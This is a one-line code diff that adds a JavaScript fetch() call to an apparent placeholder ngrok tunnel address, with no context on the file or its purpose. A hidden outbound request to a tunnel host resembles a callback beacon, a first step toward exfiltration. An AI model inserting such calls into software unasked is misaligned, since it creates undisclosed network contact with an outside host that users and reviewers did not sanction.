@@ -1,0 +1,1 @@
+fetch("https://abc123.ngrok.io/x");
